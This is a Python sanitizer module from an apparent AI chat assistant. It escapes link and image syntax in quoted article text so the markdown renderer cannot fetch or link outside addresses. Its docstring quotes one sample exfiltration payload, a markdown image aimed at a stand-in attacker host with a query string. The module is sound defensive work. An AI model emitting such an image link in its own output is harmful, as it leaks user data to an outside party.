"""Text the chat's markdown renderer shows as written: article text never becomes a link or an image."""

from __future__ import annotations

import re

from assistant.markers import MARKER

_LINK_PUNCTUATION = re.compile(r"[\[\]]|(?<=[A-Za-z])://|(?<=\bwww)\.|@")


def inert_markdown(text: str) -> str:
    """Text the chat's markdown renderer shows as written: no link, image or autolinked URL can come out of it.

    Answers quote articles, and an article may carry ``![x](https://evil.example/?q=...)`` or a bare URL; the
    chat renders markdown, so those would fetch or link an outside address. Brackets (other than the ``[n]``
    citation markers), ``://``, ``www.`` and ``@`` are backslash-escaped (shown unchanged, never linked), and
    line breaks are folded so no reference definition (``[1]: https://...``) can start a line.
    """
    pieces = []
    last = 0
    for match in MARKER.finditer(text):
        pieces.append(_escape_links(text[last : match.start()]))
        pieces.append(match.group(0))
        last = match.end()
    pieces.append(_escape_links(text[last:]))
    return " ".join("".join(pieces).split())


def _escape_links(text: str) -> str:
    return _LINK_PUNCTUATION.sub(lambda m: "".join("\\" + ch if ch in "[]:@." else ch for ch in m.group(0)), text)
